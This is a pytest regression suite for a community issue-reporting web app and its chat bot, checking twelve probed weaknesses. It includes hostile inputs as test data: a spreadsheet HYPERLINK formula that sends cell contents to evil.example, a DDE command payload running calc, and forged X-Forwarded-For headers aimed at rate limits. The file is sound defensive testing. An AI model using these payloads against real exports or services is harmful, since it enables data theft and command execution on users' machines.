"""The twelve ways in found by probing (issue 10), one regression test (or a few) each.

Each test sends what the probe sent and asserts the answer a client should get: a 4xx with
the Chinese envelope, or harmless success. They run on SQLite and PostgreSQL alike."""

from __future__ import annotations

import io
import json
import time

import pytest
from openpyxl import load_workbook
from PIL import Image

from core.people import auth
from infra.errors import ApiError
from infra.timeutil import to_local, utcnow
from models import Department, Event, Issue, Media, Patrol, Wish
from tests import chat_probes as probe
from tests.bot import test_commands as chatkit
from tests.factories import login, login_staff, login_steward, make_district, make_staff

API = "/api/v1"
BIG = 9223372036854775808  # 2**63: one past the largest 64-bit integer

bot_app, world = chatkit.bot_app, chatkit.world


@pytest.fixture
def w(client):
    d = make_district()
    staff = make_staff(d.communities[0])
    dept = Department.create(area=d.street, name="城管执法中队", phone="12319")
    return {
        "d": d,
        "board": d.boards[0].code,
        "resident": login(client, "张大妈"),
        "neighbour": login(client, "李大爷"),
        "steward": login_steward(client, d.stewards[0]),
        "staff": login_staff(client, staff),
        "admin": login_staff(client, make_staff(d.street, role="admin")),
        "dept": dept,
    }


def _jpeg(color) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (40, 30), color).save(buf, "JPEG")
    return buf.getvalue()


def upload(client, headers, color="green") -> int:
    res = client.post(
        f"{API}/media",
        data={"file": (io.BytesIO(_jpeg(color)), "p.jpg")},
        headers=headers,
        content_type="multipart/form-data",
    )
    assert res.status_code == 201, res.get_json()
    return res.get_json()["id"]


def report(client, w, headers=None, **extra):
    body = {"board_code": w["board"], "category": "环境卫生", "content": "南门巷口垃圾堆放"}
    body.update(extra)
    return client.post(f"{API}/issues", json=body, headers=headers or w["resident"])


def envelope(res, status, code=None):
    assert res.status_code == status, (res.status_code, res.get_data(as_text=True)[:300])
    err = res.get_json()["error"]
    assert set(err) >= {"code", "message", "fields"} and err["message"]
    if code:
        assert err["code"] == code, err
    return err


# --- 1. someone else's photo ------------------------------------------------------------------


def test_1_a_photo_of_someone_else_is_refused_everywhere(client, w):
    theirs = upload(client, w["neighbour"], "blue")
    mine = upload(client, w["resident"], "red")
    err = envelope(report(client, w, photo_ids=[theirs]), 400)
    assert "photo_ids" in err["fields"]
    assert Issue.select().count() == 0
    ok = report(client, w, photo_ids=[mine])
    assert ok.status_code == 201
    issue_id = ok.get_json()["issue"]["id"] if "issue" in ok.get_json() else ok.get_json()["id"]
    # the same bytes uploaded by a second person are theirs to attach too (one Media row)
    again = upload(client, w["neighbour"], "red")
    assert again == mine
    assert report(client, w, headers=w["neighbour"], photo_ids=[mine]).status_code == 201

    # wishes, comments, resolve, patrols, fulfil: a steward's or staff's upload is theirs only
    wish = client.post(
        f"{API}/wishes",
        json={
            "board_code": w["board"],
            "beneficiary_type": "elderly",
            "display_name": "王奶奶",
            "title": "想要一副老花镜",
            "content": "看报纸看不清",
            "photo_ids": [theirs],
        },
        headers=w["resident"],
    )
    assert "photo_ids" in envelope(wish, 400)["fields"]
    comment = client.post(
        f"{API}/issues/{issue_id}/comment",
        json={"text": "补充", "photo_ids": [theirs]},
        headers=w["resident"],
    )
    assert "photo_ids" in envelope(comment, 400)["fields"]
    assert (
        client.post(f"{API}/issues/{issue_id}/accept", json={}, headers=w["steward"]).status_code
        == 200
    )
    resolve = client.post(
        f"{API}/issues/{issue_id}/resolve",
        json={"note": "已清理", "photo_ids": [theirs]},
        headers=w["steward"],
    )
    assert "photo_ids" in envelope(resolve, 400)["fields"]
    patrol = client.post(
        f"{API}/patrols", json={"note": "巡查", "photo_ids": [theirs]}, headers=w["steward"]
    )
    assert "photo_ids" in envelope(patrol, 400)["fields"]
    own = upload(client, w["steward"], "yellow")
    assert (
        client.post(
            f"{API}/patrols", json={"note": "巡查", "photo_ids": [own]}, headers=w["steward"]
        ).status_code
        == 201
    )
    assert Media.select().count() == 3
    # nothing of the neighbour's blue photo is attached anywhere
    assert all(theirs not in (i.photo_ids or []) for i in Issue.select())


def test_1_the_bot_patrol_takes_the_senders_own_photos(bot_app, world):
    """The bot's photos are the ones its sender just sent (saved as theirs), so the
    ownership check lets them through; a resident's upload is never among them."""
    client = bot_app.test_client()
    stranger = chatkit.resident()
    theirs = Media.create(
        sha256="f" * 64,
        mime="image/jpeg",
        ext="jpg",
        width=1,
        height=1,
        size=1,
        thumb_width=1,
        thumb_height=1,
        uploaded_by=stranger.user,
    )
    bridge = chatkit.BridgeClient(client, None)
    assert bridge.say("wx_s0", None, images=[chatkit.jpeg("purple")]) is not None
    reply = bridge.say("wx_s0", "巡查 一切正常")
    assert reply.startswith("已登记巡查") and "附照片 1 张" in reply
    patrol = Patrol.get()
    assert len(patrol.photo_ids) == 1 and theirs.id not in patrol.photo_ids
    assert Media.get_by_id(patrol.photo_ids[0]).uploaded_by_id is not None


# --- 2 and 3. the ledger ----------------------------------------------------------------------


def _ledger(client, w):
    today = to_local(utcnow()).date().isoformat()  # today's items, whatever the default period
    res = client.get(f"{API}/ledger.xlsx?date_from={today}", headers=w["staff"])
    assert res.status_code == 200, res.get_data(as_text=True)[:300]
    return load_workbook(io.BytesIO(res.data))


@pytest.mark.parametrize("char", ["\x0b", "\x01", "\x1f", "\x7f", "\x85"])
def test_2_control_characters_never_break_the_ledger(client, w, char):
    assert report(client, w, content=f"路灯{char}坏了").status_code == 201
    rows = list(_ledger(client, w)["诉求台账"].iter_rows(values_only=True))
    assert rows[2][3] == "路灯坏了"


def test_2_control_characters_already_stored_are_dropped_from_the_ledger(client, w):
    """Rows written before the fix (straight into the table) still export."""
    assert report(client, w).status_code == 201
    Issue.update(content="旧\x0b数据\x01").execute()
    rows = list(_ledger(client, w)["诉求台账"].iter_rows(values_only=True))
    assert rows[2][3] == "旧数据"


def test_3_formulas_written_by_people_stay_text(client, w):
    evil = '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")'
    res = report(client, w, content=evil)
    assert res.status_code == 201
    body = res.get_json()
    issue_id = (body.get("issue") or body)["id"]
    assert (
        client.post(f"{API}/issues/{issue_id}/accept", json={}, headers=w["steward"]).status_code
        == 200
    )
    assert (
        client.post(
            f"{API}/issues/{issue_id}/resolve",
            json={"note": "+1+cmd|' /C calc'!A0"},
            headers=w["steward"],
        ).status_code
        == 200
    )
    sheet = _ledger(client, w)["诉求台账"]
    header = [c.value for c in sheet[2]]  # row 1 is the title
    content = sheet.cell(row=3, column=header.index("内容") + 1)
    note = sheet.cell(row=3, column=header.index("办结说明") + 1)
    assert (content.value, content.data_type) == (evil, "s")
    assert (note.value, note.data_type) == ("+1+cmd|' /C calc'!A0", "s")
    assert content.quotePrefix and note.quotePrefix  # Excel keeps them text when edited


# --- 4. deeply nested JSON --------------------------------------------------------------------


@pytest.mark.parametrize(
    "path", [f"{API}/auth/login", f"{API}/auth/password", f"{API}/issues", f"{API}/subscriptions"]
)
def test_4_deeply_nested_json_is_invalid_json(client, w, path):
    res = client.post(
        path, data=probe.nested(50_000), content_type="application/json", headers=w["resident"]
    )
    envelope(res, 400, "invalid_json")
    shallow_but_deep = {
        "board_code": w["board"],
        "category": "其他",
        "content": "x",
        "location": json.loads(probe.nested(200)),
    }
    envelope(client.post(f"{API}/issues", json=shallow_but_deep, headers=w["resident"]), 400)


def test_4_nested_json_on_the_chat_callbacks(bot_app, world, fake_wechat):
    client = bot_app.test_client()
    before = Event.select().count()
    deep = probe.nested(50_000)
    # the smart bot: before its signature check (the outer body) and after (the plaintext)
    res = probe.aibot_post(client, "{}", outer=deep.encode())
    assert res.status_code == 400
    res = probe.aibot_post(client, deep)
    assert res.status_code == 400
    res = probe.bridge_post(client, deep.encode())
    assert res.status_code == 400 and res.get_json()["error"]["code"] == "invalid_json"
    assert Event.select().count() == before


# --- 5. integers past 64 bits -----------------------------------------------------------------


@pytest.mark.parametrize(
    "path", [f"/wishes/{BIG}", f"/issues/{BIG}", f"/groups/{BIG}", f"/wishes/{BIG * 10}"]
)
def test_5_huge_path_ids_are_404(client, w, path):
    envelope(client.get(API + path, headers=w["staff"]), 404)


@pytest.mark.parametrize(
    "query,field",
    [
        (f"page={BIG}", "page"),
        (f"alley_id={BIG}", "alley_id"),
        (f"community_id={BIG}", "community_id"),
        (f"page=-{BIG}", "page"),
    ],
)
def test_5_huge_query_ids_are_400_with_the_field(client, w, query, field):
    path = (
        f"{API}/wishes?status=published&{query}"
        if field != "alley_id"
        else f"{API}/patrols?{query}"
    )
    err = envelope(client.get(path, headers=w["staff"]), 400)
    assert field in err["fields"]


def test_5_huge_body_ids_are_400_with_the_field(client, w):
    body = {"alley_id": BIG, "category": "其他", "content": "x"}
    assert "alley_id" in envelope(report(client, w, **body), 400)["fields"]
    err = envelope(report(client, w, photo_ids=[1, BIG]), 400)
    assert any(k.startswith("photo_ids") for k in err["fields"])
    issue_id = report(client, w).get_json()
    issue_id = (issue_id.get("issue") or issue_id)["id"]
    for action, payload, field in [
        ("assign", {"steward_ids": [BIG]}, "steward_ids"),
        ("whistle", {"department_id": BIG, "note": "请协助"}, "department_id"),
    ]:
        res = client.post(f"{API}/issues/{issue_id}/{action}", json=payload, headers=w["staff"])
        assert any(k.startswith(field) for k in envelope(res, 400)["fields"]), action
    res = client.post(f"{API}/auth/bind-codes", json={"steward_id": BIG}, headers=w["staff"])
    assert res.status_code in (400, 404)
    assert res.status_code != 500


# --- 6. extreme dates -------------------------------------------------------------------------


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-30", "9999-12-31"])
@pytest.mark.parametrize("path", ["/stats", "/ledger.xlsx", "/patrols"])
def test_6_extreme_dates_are_field_errors(client, w, path, day):
    err = envelope(client.get(f"{API}{path}?date_from={day}", headers=w["staff"]), 400)
    assert "date_from" in err["fields"]
    err = envelope(client.get(f"{API}{path}?date_to={day}", headers=w["staff"]), 400)
    assert "date_to" in err["fields"]


@pytest.mark.parametrize("period", ["0000Q1", "0001Q1", "9999Q4"])
def test_6_extreme_quarters_are_field_errors(client, w, period):
    res = client.post(f"{API}/assessments/run", json={"period": period}, headers=w["staff"])
    assert "period" in envelope(res, 400)["fields"]


# --- 7. NUL bytes -----------------------------------------------------------------------------


def test_7_nul_bytes_are_stripped_on_both_databases(client, w):
    res = report(client, w, content="a\u0000b")
    assert res.status_code == 201
    assert Issue.get().content == "ab"
    wish = client.post(
        f"{API}/wishes",
        json={
            "board_code": w["board"],
            "beneficiary_type": "elderly",
            "display_name": "王\x00奶奶",
            "title": "老花镜\u0000",
            "content": "看不清",
        },
        headers=w["resident"],
    )
    assert wish.status_code == 201, wish.get_json()
    assert (Wish.get().title, Wish.get().display_name) == ("老花镜", "王奶奶")
    envelope(report(client, w, content="\u0000"), 400)
    # a NUL in a query string is dropped like one in a body: "submitted\0" is "submitted"
    res = client.get(f"{API}/issues?scope=area&status=submitted%00", headers=w["staff"])
    assert res.status_code == 200 and res.get_json()["total"] == 1


def test_7_nul_bytes_in_scan_page_forms(client, w):
    res = client.post(
        f"/b/{w['board']}/issues",
        data={"category": "其他", "content": "路灯%00坏了\x00", "contact_phone": "\x00"},
        content_type="multipart/form-data",
    )
    assert res.status_code == 303
    assert Issue.get().content == "路灯%00坏了"
    res = client.post(
        f"/b/{w['board']}/wishes",
        data={"beneficiary_type": "elderly", "display_name": "\x00", "title": "x", "content": "y"},
        content_type="multipart/form-data",
    )
    assert res.status_code == 400 and Wish.select().count() == 0


# --- 8. the proxy's client address ------------------------------------------------------------


def test_8_a_forged_forwarded_for_entry_does_not_escape_the_limit(app, client, w):
    app.config.update(TRUST_PROXY_HEADERS=True, TRUSTED_PROXY_HOPS=1, SCAN_SUBMIT_LIMIT=2)
    statuses = [
        client.post(
            f"/b/{w['board']}/issues",
            data={"category": "其他", "content": f"第{i}次"},
            content_type="multipart/form-data",
            headers={"X-Forwarded-For": f"10.9.{i}.{i}, 203.0.113.7"},
        ).status_code
        for i in range(4)
    ]
    assert statuses == [303, 303, 429, 429]
    # behind two proxies (a CDN in front of nginx) the client is the second from the right
    app.config.update(TRUSTED_PROXY_HOPS=2)
    statuses = [
        client.post(
            f"/b/{w['board']}/issues",
            data={"category": "其他", "content": f"经过两层代理{i}"},
            content_type="multipart/form-data",
            headers={"X-Forwarded-For": f"10.9.{i}.{i}, 198.51.100.{i}, 192.0.2.1"},
        ).status_code
        for i in range(3)
    ]
    assert statuses == [303, 303, 303]


def test_8_password_login_limit_holds_behind_the_proxy(app, client, w):
    app.config.update(TRUST_PROXY_HEADERS=True, TRUSTED_PROXY_HOPS=1)
    codes = [
        client.post(
            f"{API}/auth/password",
            json={"username": "nobody", "password": "wrong"},
            headers={"X-Forwarded-For": f"10.9.{i}.{i}, 203.0.113.7"},
        ).status_code
        for i in range(40)
    ]
    assert 429 in codes


# --- 9. login timing --------------------------------------------------------------------------


def test_9_an_unknown_username_costs_a_hash_check_too(app, w, monkeypatch):
    """Counted, not timed: an unknown name runs the same password hash check once."""
    calls = []
    real = auth.check_password_hash

    def counting(pwhash, password):
        calls.append(pwhash)
        return real(pwhash, password)

    monkeypatch.setattr(auth, "check_password_hash", counting)
    for name in ("no-such-user", "staff-unknown"):
        with pytest.raises(ApiError):
            auth.login_with_password(name, "whatever")
    assert len(calls) == 2
    assert all(c.startswith(("scrypt:", "pbkdf2:")) for c in calls)


# --- 10. nan timestamps -----------------------------------------------------------------------


@pytest.mark.parametrize("value", ["nan", "NaN", "inf", "-inf", "1e400"])
def test_10_only_finite_timestamps_pass(bot_app, world, fake_wechat, value):
    client = bot_app.test_client()
    before = Event.select().count()
    msg = {
        "msgid": "nan-1",
        "msgtype": "text",
        "from": {"userid": "wx_s0"},
        "text": {"content": "帮助"},
    }
    assert probe.aibot_post(client, json.dumps(msg), ts=value).status_code in (400, 403)
    xml = probe.app_xml(
        fake_wechat.corp_id, "wx_s0", "<MsgType>text</MsgType><Content>帮助</Content>"
    )
    assert probe.app_post(client, fake_wechat.corp_id, xml, ts=value).status_code in (400, 403)
    raw = (
        (
            '{"msg_id": "nan-b", "ts": %s, "sender": "wx_s0", "text": "帮助"}'
            % ("NaN" if value.lower() == "nan" else ("Infinity" if "inf" in value else value))
        )
        .replace("-inf", "-Infinity")
        .encode()
    )
    assert probe.bridge_post(client, raw).status_code in (400, 403)
    assert Event.select().count() == before


# --- 11. oddly shaped but signed callbacks ----------------------------------------------------


AIBOT_SHAPES = [
    {"msgid": "s1", "msgtype": "text", "from": "wx_s0", "text": {"content": "帮助"}},
    {"msgid": "s2", "msgtype": "text", "from": {"userid": "wx_s0"}, "text": "帮助"},
    {"msgid": "s3", "msgtype": "image", "from": {"userid": "wx_s0"}, "image": "http://x"},
    {
        "msgid": "s4",
        "msgtype": "mixed",
        "from": {"userid": "wx_s0"},
        "mixed": {"msg_item": [1, "a"]},
    },
    {"msgid": "s5", "msgtype": "mixed", "from": {"userid": "wx_s0"}, "mixed": "x"},
    {"msgid": ["s6"], "msgtype": "text", "from": {"userid": ["wx_s0"]}, "text": {"content": 5}},
    {
        "msgid": "s7",
        "msgtype": "text",
        "from": {"userid": "wx_s0"},
        "text": {"content": "帮助"},
        "chatid": {"a": 1},
    },
    {"msgid": "s8", "msgtype": ["text"], "from": None},
]


@pytest.mark.parametrize(
    "shape",
    AIBOT_SHAPES,
    ids=[s["msgid"] if isinstance(s["msgid"], str) else "list" for s in AIBOT_SHAPES],
)
def test_11_odd_smart_bot_bodies_are_never_a_500(bot_app, world, shape):
    res = probe.aibot_post(bot_app.test_client(), json.dumps(shape))
    assert res.status_code in (200, 400), res.data[:200]
    assert not Event.select().where(Event.action.startswith("issue.")).exists()


@pytest.mark.parametrize(
    "plain",
    [
        "not xml at all",
        "<xml><FromUserName>wx_s0</FromUserName><Content>帮助</Content></xml>",
        "<xml><MsgType><a>1</a></MsgType><FromUserName>wx_s0</FromUserName></xml>",
        "<xml><MsgType>text</MsgType><FromUserName><a>1</a></FromUserName><Content>帮助</Content><MsgId>1</MsgId></xml>",
        "<xml><MsgType>text</MsgType><FromUserName>wx_s0</FromUserName><Content><b>1</b></Content><MsgId>2</MsgId></xml>",
        "<xml><MsgType>image</MsgType><FromUserName>wx_s0</FromUserName><MsgId>3</MsgId></xml>",
        "<x",
    ],
)
def test_11_odd_app_bodies_are_never_a_500(bot_app, world, fake_wechat, plain):
    res = probe.app_post(bot_app.test_client(), fake_wechat.corp_id, plain)
    assert res.status_code in (200, 400), res.data[:200]
    assert not Event.select().where(Event.action.startswith("issue.")).exists()


@pytest.mark.parametrize(
    "body",
    [
        {"msg_id": {"a": 1}, "sender": "wx_s0", "text": "帮助"},
        {"msg_id": "b2", "sender": ["wx_s0"], "text": "帮助"},
        {"msg_id": "b3", "sender": "wx_s0", "text": {"a": [1]}},
        {"msg_id": "b4", "sender": "wx_s0", "text": "帮助", "chat_id": [1]},
        {"msg_id": "b5", "sender": "wx_s0", "text": "帮助", "images": [1, None]},
        {"msg_id": "b6", "sender": "wx_s0", "text": "帮助", "ts": True},
        {"msg_id": "b7", "sender": "wx_s0", "text": json.loads(probe.nested(300))},
    ],
)
def test_11_odd_bridge_bodies_are_never_a_500(bot_app, world, body):
    body = {"ts": int(time.time()), **body}
    res = probe.bridge_post(bot_app.test_client(), json.dumps(body).encode())
    assert res.status_code in (200, 400), res.data[:200]
    assert not Event.select().where(Event.action.startswith("issue.")).exists()


# --- 12. invisible-only text ------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["\u200b", "\u202e", "\u2060\u180e", "\ufeff \u200d", "\u3000\u3164", "\u2800"]
)
def test_12_invisible_only_text_is_empty(client, w, text):
    err = envelope(report(client, w, content=text), 400)
    assert err["fields"]["content"] == "不能为空"
    wish = client.post(
        f"{API}/wishes",
        json={
            "board_code": w["board"],
            "beneficiary_type": "elderly",
            "display_name": text,
            "title": text,
            "content": "x",
        },
        headers=w["resident"],
    )
    fields = envelope(wish, 400)["fields"]
    assert fields.get("title") == "不能为空"
    res = client.post(
        f"/b/{w['board']}/issues",
        data={"category": "其他", "content": text},
        content_type="multipart/form-data",
    )
    assert res.status_code == 400 and "请填写问题描述" in res.get_data(as_text=True)
    assert Issue.select().count() == 0


def test_12_text_with_invisible_marks_inside_is_kept(client, w):
    """A joiner inside an emoji or a name is part of the text, only the edges are trimmed."""
    res = report(client, w, content="\u200b👨\u200d👩\u200d👧 一家人的问题\u200b")
    assert res.status_code == 201
    assert Issue.get().content == "👨\u200d👩\u200d👧 一家人的问题"


def test_12_invisible_bot_command_is_help_not_an_action(bot_app, world):
    res = probe.bridge_post(
        bot_app.test_client(),
        json.dumps(
            {
                "msg_id": "inv-1",
                "ts": int(time.time()),
                "sender": "wx_s0",
                "text": "\u200b接单\u200b 1",
            }
        ).encode(),
    )
    assert res.status_code == 200


@pytest.mark.parametrize(
    "path", ["/b/AB%00CD", "/b/AB%00CD/issues", "/t/abc%00def", "/media/x%00.jpg"]
)
def test_7_nul_in_a_path_names_nothing(client, w, path):
    assert client.get(path).status_code == 404
    envelope(client.get(f"{API}/boards/AB%00CD"), 404)
    # the same code without the NUL is still found
    assert client.get(f"{API}/boards/{w['board']}").status_code == 200


def test_1_fulfilling_a_wish_takes_only_the_claimers_photos(client, w):
    res = client.post(
        f"{API}/wishes",
        json={
            "board_code": w["board"],
            "beneficiary_type": "elderly",
            "display_name": "王奶奶",
            "title": "想要一副老花镜",
            "content": "看报纸看不清",
        },
        headers=w["resident"],
    )
    assert res.status_code == 201, res.get_json()
    wish_id = res.get_json()["id"]
    assert client.post(f"{API}/wishes/{wish_id}/approve", headers=w["staff"]).status_code == 200
    claim = client.post(f"{API}/wishes/{wish_id}/claim", json={}, headers=w["neighbour"])
    assert claim.status_code == 200, claim.get_json()
    theirs = upload(client, w["resident"], "blue")
    res = client.post(
        f"{API}/wishes/{wish_id}/fulfil",
        json={"note": "已送到", "photo_ids": [theirs]},
        headers=w["neighbour"],
    )
    assert "photo_ids" in envelope(res, 400)["fields"]
    own = upload(client, w["neighbour"], "orange")
    res = client.post(
        f"{API}/wishes/{wish_id}/fulfil",
        json={"note": "已送到", "photo_ids": [own]},
        headers=w["neighbour"],
    )
    assert res.status_code == 200, res.get_json()
    assert Wish.get_by_id(wish_id).fulfil_photo_ids == [own]
